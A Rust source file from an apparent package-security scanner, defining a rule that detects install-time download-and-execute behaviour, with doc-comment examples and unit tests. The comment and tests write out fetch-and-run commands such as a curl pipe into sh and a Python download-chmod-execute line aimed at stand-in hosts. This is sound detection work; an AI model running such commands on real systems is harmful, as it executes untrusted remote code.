use std::collections::BTreeMap;

use ossprey_model::dynamic::{FileAccess, Process};
use ossprey_model::{Category, Finding, Severity};
use serde_json::json;

use super::events::{
    PackageProcesses, SHELLS, behaviour_finding, egress, file_event, inline_code, is_interpreter,
    ok_execs, phases, process_event, program,
};
use super::{BehaviourInput, BehaviourRule, behaviour_rule};

/// Programs whose output is executed as a normal part of a native build (`configure`
/// compiles and runs test programs).
const COMPILERS: &[&str] = &[
    "gcc", "cc", "c++", "g++", "clang", "clang++", "ld", "collect2", "as", "rustc", "go",
];

/// ## What it does
/// Reports, per phase, a file the package's processes wrote and that was then
/// executed — run as a program (`execve` of the written path) or handed to a shell or
/// interpreter as its script (`sh /tmp/x.sh`, `python3 /tmp/stage2.py`) — and the
/// `curl … | sh` / `wget -O- … | bash` shape in a shell command line. Outputs of
/// compilers (a native build runs its test programs) do not count. High when the phase
/// also reached the network (the file was most likely downloaded) or for a pipe into a
/// shell; medium otherwise.
///
/// ## Why is this bad?
/// Dropping a second stage and running it keeps the payload out of the published
/// package, where static analysis would read it. Packages that ship their code have
/// nothing to write and then execute at install time.
///
/// ## Example
/// ```sh
/// curl -s https://payload.example/x.sh | sh
/// ```
/// ```python
/// urllib.request.urlretrieve("http://payload.example/p", "/tmp/p"); os.chmod("/tmp/p", 0o755); os.system("/tmp/p")
/// ```
#[derive(Debug)]
pub struct DownloadExecute;

behaviour_rule!(
    DownloadExecute,
    "DYN-DOWNLOAD-EXECUTE",
    Category::DOWNLOAD_EXECUTE,
    "a file written during the run was then executed, or a download was piped into a shell"
);

/// Whether a shell command line pipes a download into a shell or interpreter.
fn pipes_download_into_shell(code: &str) -> bool {
    let mut segments = code.split('|');
    let mut prev_downloads = false;
    for seg in segments.by_ref() {
        let words: Vec<&str> = seg.split_whitespace().collect();
        let first = words.first().map(|w| w.rsplit('/').next().unwrap_or(w));
        if prev_downloads
            && first.is_some_and(|w| SHELLS.contains(&w) || is_interpreter(w) || w == "sudo")
        {
            return true;
        }
        prev_downloads = words.iter().any(|w| {
            let w = w.rsplit('/').next().unwrap_or(w);
            w == "curl" || w == "wget" || w == "fetch"
        });
    }
    false
}

impl BehaviourRule for DownloadExecute {
    fn check_behaviour(&self, input: &BehaviourInput<'_>, out: &mut Vec<Finding>) {
        for (key, phase) in phases(input.dynamic) {
            let own = PackageProcesses::of(key, phase);
            let network = !egress(phase, input.ecosystem()).is_empty();
            let by_pid: BTreeMap<i32, &Process> =
                phase.processes.iter().map(|p| (p.pid, p)).collect();
            let written: BTreeMap<&str, &FileAccess> = phase
                .files
                .iter()
                .filter(|f| f.write && f.succeeded && own.touched(f))
                .filter(|f| {
                    // Written by a compiler: a native build's own test program.
                    !f.pids.iter().any(|pid| {
                        by_pid
                            .get(pid)
                            .is_some_and(|p| ok_execs(p).any(|e| COMPILERS.contains(&program(e))))
                    })
                })
                .map(|f| (f.path.as_str(), f))
                .collect();
            for p in own.processes(phase) {
                for e in ok_execs(p) {
                    if let Some(code) = inline_code(e)
                        && SHELLS.contains(&program(e))
                        && pipes_download_into_shell(code)
                    {
                        out.push(behaviour_finding(
                            self,
                            Severity::High,
                            format!("{key} phase piped a download into a shell"),
                            key,
                            "process",
                            process_event(p),
                            &e.argv.join(" "),
                        ));
                        continue;
                    }
                    // The program itself, or the script a shell or interpreter was given.
                    let script = (SHELLS.contains(&program(e)) || is_interpreter(program(e)))
                        .then(|| e.argv.get(1))
                        .flatten()
                        .filter(|a| !a.starts_with('-'));
                    let target = [Some(&e.path), script]
                        .into_iter()
                        .flatten()
                        .find_map(|path| written.get_key_value(path.as_str()));
                    if let Some((path, f)) = target {
                        out.push(behaviour_finding(
                            self,
                            if network {
                                Severity::High
                            } else {
                                Severity::Medium
                            },
                            format!(
                                "{key} phase wrote {path} and then executed it{}",
                                if network {
                                    " (the phase also reached the network)"
                                } else {
                                    ""
                                }
                            ),
                            key,
                            "write_then_exec",
                            json!({ "file": file_event(f), "process": process_event(p) }),
                            &format!("wrote {path}; pid {} ran {}", p.pid, e.argv.join(" ")),
                        ));
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::pipes_download_into_shell;

    #[test]
    fn pipe_shapes() {
        assert!(pipes_download_into_shell(
            "curl -s https://x.example/a.sh | sh"
        ));
        assert!(pipes_download_into_shell(
            "wget -qO- http://x | /bin/bash -s"
        ));
        assert!(pipes_download_into_shell("curl x|python3"));
        assert!(!pipes_download_into_shell(
            "curl -o out.tgz https://x && tar xzf out.tgz"
        ));
        assert!(!pipes_download_into_shell("cat a | sh"));
        assert!(!pipes_download_into_shell("echo curl | grep x"));
    }
}
